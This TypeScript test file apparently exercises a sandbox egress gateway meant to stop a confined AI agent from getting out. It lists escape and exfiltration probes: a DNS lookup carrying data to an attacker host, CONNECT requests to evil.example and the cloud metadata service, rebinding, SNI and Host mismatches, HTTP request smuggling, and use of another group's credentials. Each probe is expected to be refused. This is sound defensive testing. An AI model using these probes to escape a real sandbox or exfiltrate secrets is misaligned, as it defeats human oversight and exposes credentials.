// T6, T7: an agent that wants out, from inside of a real sandbox: past the gateway (the kernel refuses) and through it.
import { copyFileSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { networkInterfaces } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { whyNoEngine } from '../docker/test-image.ts'
import { TestInstall } from '../docker/test-sandbox.ts'
import { ALPHA, BETA } from '../rig/gateway-world.ts'
import { HOST, OTHER, ToolWorld } from '../rig/tool-world.ts'

const missing = await whyNoEngine()
if (missing) console.error(`skipped: ${missing}`)

const SITE = `${HOST}:PORT`
const BETA_TOKEN = 'token-of-beta-0123456789'
/** An abstract socket of the host: no file, only a name in its network. */
const ABSTRACT = '\0creel-test-of-egress'

interface Attack {
  readonly name: string
  /** What is done; PORT is the site's port, OPEN one of the host on every address, HOSTIP an address of the host. */
  readonly way: readonly string[]
  /** What the agent sees of it. */
  readonly sees: RegExp
  /** What is noted; null where it does not get as far as the gateway. */
  readonly noted: RegExp | null
}

const KERNEL = /^(?:ENETUNREACH|ECONNREFUSED|EADDRNOTAVAIL|EHOSTUNREACH|EACCES|EAI_AGAIN|ENOTFOUND|ENOENT)$/
const REFUSED = /^HTTP\/1\.1 403 [\s\S]*request_egress/

const byKernel = (name: string, ...way: string[]): Attack => ({ name, way, sees: KERNEL, noted: null })
/** CONNECT there, which no rule allows. */
const connecting = (name: string, target: string): Attack => ({
  name: `${name} (CONNECT ${target})`,
  way: ['raw', `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`],
  sees: REFUSED,
  noted: new RegExp(`^alpha denied CONNECT ${escaped(target.replace(/^\[(.*)\]/, '$1'))} 403 no rule`),
})
const asking = (name: string, url: string): Attack => ({
  name: `${name} (${url})`,
  way: ['raw', `GET ${url} HTTP/1.1\r\nHost: ${new URL(url).host}\r\nConnection: close\r\n\r\n`],
  sees: REFUSED,
  noted: new RegExp(`^alpha denied GET ${escaped(new URL(url).hostname)}:\\d+/\\S* 403 no rule`),
})
/** Within TLS that the gateway opened for a host that is allowed. */
const within = (name: string, text: string, sees: RegExp, noted: RegExp): Attack => ({
  name,
  way: ['inTls', SITE, text.replaceAll('\n', '\r\n')],
  sees,
  noted,
})

function escaped(text: string): string {
  return text.replace(/[.[\]]/g, '\\$&')
}

const ATTACKS: readonly Attack[] = [
  byKernel('a direct IP', 'tcp', '1.1.1.1', '443'),
  byKernel('a direct IPv6 address', 'tcp', '2606:4700:4700::1111', '443'),
  byKernel('a lookup that carries data', 'lookup', 'secret-data.attacker.example'),
  byKernel('a service of the host on its loopback', 'tcp', '127.0.0.1', 'OPEN'),
  byKernel('a service of the host on its address', 'tcp', 'HOSTIP', 'OPEN'),
  byKernel('the bridge', 'tcp', '172.17.0.1', 'OPEN'),
  byKernel('another sandbox', 'tcp', '172.17.0.2', '80'),
  byKernel('an abstract socket of the host', 'unix', ABSTRACT),
  byKernel("another sandbox's gateway", 'unix', '/run/creel/../beta/gw.sock'),
  connecting('a name that no rule has', 'evil.example:443'),
  connecting('an IP', '1.1.1.1:443'),
  connecting('the loopback of the host', '127.0.0.1:OPEN'),
  connecting('the loopback by its name', 'localhost:OPEN'),
  connecting('an address of the host', 'HOSTIP:OPEN'),
  connecting('the bridge', '172.17.0.1:OPEN'),
  connecting('the LAN', '192.168.0.1:80'),
  connecting('the metadata service', '169.254.169.254:80'),
  connecting('IPv6 of this machine', '[::1]:OPEN'),
  connecting('the metadata service', '[fd00:ec2::254]:80'),
  asking('the metadata service', 'http://169.254.169.254/latest/meta-data'),
  asking('a name that no rule has', 'http://evil.example/data'),
  connecting('another port of an allowed host', `${HOST}:22`),
  {
    name: 'an address in a form that is read in two ways',
    way: ['raw', 'CONNECT 2130706433:OPEN HTTP/1.1\r\nHost: x\r\n\r\n'],
    sees: /^HTTP\/1\.1 400 [\s\S]*plain form/,
    noted: /^alpha denied CONNECT :0 400 /,
  },
  {
    name: 'an allowed name that is at the loopback now (rebinding)',
    way: ['raw', 'CONNECT rebinding.example:OPEN HTTP/1.1\r\nHost: rebinding.example:OPEN\r\n\r\n'],
    sees: /^HTTP\/1\.1 403 [\s\S]*not a public address/,
    noted: /^alpha denied CONNECT rebinding\.example:\d+ 403 it is at 127\.0\.0\.1/,
  },
  {
    name: 'a redirect from an allowed host to a denied one',
    way: ['follow', SITE],
    sees: REFUSED,
    noted: /^alpha denied CONNECT away\.example:443 403 no rule/,
  },
  {
    name: 'another SNI than the host of CONNECT, in TLS that is opened',
    way: ['inTls', SITE, 'x', OTHER],
    sees: /^ (?:EPROTO|ERR_SSL\w+|ECONNRESET)$/,
    noted: /^alpha denied CONNECT api\.example:\d+ 403 TLS in it is for another server \(SNI other/,
  },
  {
    name: 'another SNI than the host of CONNECT, in TLS that is tunnelled',
    way: ['inTls', 'tunnel.example:PORT', 'x', HOST],
    sees: /^ (?:EPROTO|ERR_SSL\w+|ECONNRESET)$/,
    noted: /^alpha denied CONNECT tunnel\.example:\d+ 403 TLS in it is for another server \(SNI api/,
  },
  within(
    'another Host header than the host of CONNECT',
    `GET /host HTTP/1.1\nHost: ${OTHER}\nConnection: close\n\n`,
    /^HTTP\/1\.1 400 [\s\S]*of another host/,
    /^alpha denied GET api\.example:\d+\/host 400 its Host header/,
  ),
  within(
    'a smuggled request',
    `POST /outer HTTP/1.1\nHost: ${SITE}\nContent-Length: 5\nTransfer-Encoding: chunked\n\n0\n\nGET /inner HTTP/1.1\nHost: ${SITE}\n\n`,
    /^HTTP\/1\.1 400 /,
    /^alpha denied \? api\.example:\d+ 400 this is not HTTP/,
  ),
  within(
    'headers that are too large',
    `GET /large HTTP/1.1\nHost: ${SITE}\nA: ${'x'.repeat(40_000)}\n\n`,
    /^HTTP\/1\.1 400 /,
    /^alpha denied \? api\.example:\d+ 400 this is not HTTP/,
  ),
  within(
    'a body that is too large',
    `POST /body HTTP/1.1\nHost: ${SITE}\nContent-Length: 3000000\n\n${'x'.repeat(3_000_000)}`,
    /^HTTP\/1\.1 413 |^ (?:EPIPE|ECONNRESET)$/,
    /^alpha denied POST api\.example:\d+\/body 413 more than 1 MB/,
  ),
  within(
    'a proxy within',
    `CONNECT evil.example:443 HTTP/1.1\nHost: evil.example:443\n\n`,
    /^HTTP\/1\.1 403 [\s\S]*no proxy within/,
    /^alpha denied CONNECT evil\.example:443 403 there is no proxy/,
  ),
  {
    name: 'a WebSocket to a denied host',
    way: [
      'raw',
      'GET http://evil.example/ws HTTP/1.1\r\nHost: evil.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eA==\r\nSec-WebSocket-Version: 13\r\n\r\n',
    ],
    sees: REFUSED,
    noted: /^alpha denied GET evil\.example:80\/ws 403 no rule/,
  },
  {
    name: "a host of another group's rules, with what it is known by",
    way: [
      'raw',
      `CONNECT beta.example:PORT HTTP/1.1\r\nHost: beta.example:PORT\r\nProxy-Authorization: Basic YmV0YTp4\r\nX-Creel-Group: beta\r\n\r\n`,
    ],
    sees: REFUSED,
    noted: /^alpha denied CONNECT beta\.example:\d+ 403 no rule/,
  },
]

describe.skipIf(missing)('an agent that wants out by', () => {
  let install: TestInstall
  let world: ToolWorld
  let results: string[]
  const open: Server[] = []
  let reachedHost = 0
  /** Authorization of the requests that reached the site, by path. */
  const authorizations = new Map<string, string | undefined>()

  async function listen(where: { host: string; port: number } | { path: string }): Promise<Server> {
    const server = createServer((socket) => {
      reachedHost++
      socket.destroy()
    })
    open.push(server)
    await new Promise<void>((resolve) => server.listen(where, resolve))
    return server
  }

  /** Last: an allowed request with a placeholder, to see that a key of the other group does not come along. */
  const placeholder = `GET /own HTTP/1.1\r\nHost: ${SITE}\r\nAuthorization: Bearer placeholder\r\nConnection: close\r\n\r\n`

  beforeAll(async () => {
    install = await TestInstall.make()
    world = await ToolWorld.make({}, install.paths)
    const { policy, gateway, site } = world
    gateway.limits = { connections: 100, bytesPerRequest: 1 << 20 }
    const port = site.port
    const server = await listen({ host: '0.0.0.0', port: 0 })
    await listen({ path: ABSTRACT })
    const address = server.address()
    const openPort = typeof address === 'object' && address !== null ? address.port : 0
    const own = Object.values(networkInterfaces()).flatMap((list) => list ?? [])
    const hostIp =
      own.find(({ internal, family }) => !internal && family === 'IPv4')?.address ?? '192.168.7.7'
    policy.allow(ALPHA, world.at, { mayBePrivate: true })
    policy.allow(ALPHA, `tunnel.example:${port}`, { how: 'tunnel', mayBePrivate: true })
    policy.allow(ALPHA, `rebinding.example:${openPort}`, {})
    policy.allow(BETA, `beta.example:${port}`, { mayBePrivate: true })
    policy.allow(BETA, world.at, { mayBePrivate: true })
    gateway.injections.set(BETA, world.at, {
      headers: { authorization: `Bearer ${BETA_TOKEN}` },
      secrets: [BETA_TOKEN],
    })
    for (const name of ['tunnel.example', 'rebinding.example', 'beta.example'])
      gateway.names.set(name, [{ address: '127.0.0.1', family: 4 }])
    site.serve = (request, response) => {
      authorizations.set(request.url ?? '', request.headers.authorization)
      request.resume()
      if (request.url === '/away') response.writeHead(302, { location: 'https://away.example/' })
      request.on('end', () => response.end('reached'))
    }
    await install.spec(ALPHA, '')
    const fill = (text: string) =>
      text.replaceAll('PORT', String(port)).replaceAll('OPEN', String(openPort)).replaceAll('HOSTIP', hostIp)
    const probes = [...ATTACKS.map(({ way }) => way), ['inTls', SITE, placeholder]]
    const workspace = install.paths.workspace(ALPHA)
    writeFileSync(join(workspace, 'probes.json'), JSON.stringify(probes.map((way) => way.map(fill))))
    const script = fileURLToPath(new URL('egress-probe.mjs', import.meta.url))
    copyFileSync(script, join(workspace, 'probe.mjs'))
    const output = await install.run(ALPHA, 'node /workspace/probe.mjs')
    results = output
      .trim()
      .split('\n')
      .map((line): string => JSON.parse(line))
    expect(results).toHaveLength(probes.length)
    filled = (text) => fill(text)
  })
  let filled = (text: string) => text
  afterAll(async () => {
    for (const server of open) server.close()
    await world?.[Symbol.asyncDispose]()
    await install?.[Symbol.asyncDispose]()
  })

  it.each(ATTACKS.map((attack, at) => ({ ...attack, at })))(
    '$name gets nowhere, and it is noted',
    ({ sees, noted, at }) => {
      expect(results[at]).toMatch(sees)
      if (noted === null) return
      const pattern = new RegExp(filled(noted.source))
      expect(world.lines.filter((line) => pattern.test(line))).not.toEqual([])
    },
  )

  it('any of these reached neither the host nor the site behind a refusal', () => {
    expect(reachedHost).toBe(0)
    expect([...authorizations.keys()].toSorted()).toEqual(['/away', '/own'])
    expect(world.gateway.lookedUp.filter((name) => name.includes('evil') || name.includes('secret'))).toEqual(
      [],
    )
  })

  it("the key of another group gets its own placeholder to the site, and nobody's key", () => {
    expect(results.at(-1)).toMatch(/^HTTP\/1\.1 200 /)
    expect(authorizations.get('/own')).toBe('Bearer placeholder')
    expect(JSON.stringify(results)).not.toContain(BETA_TOKEN)
  })
})
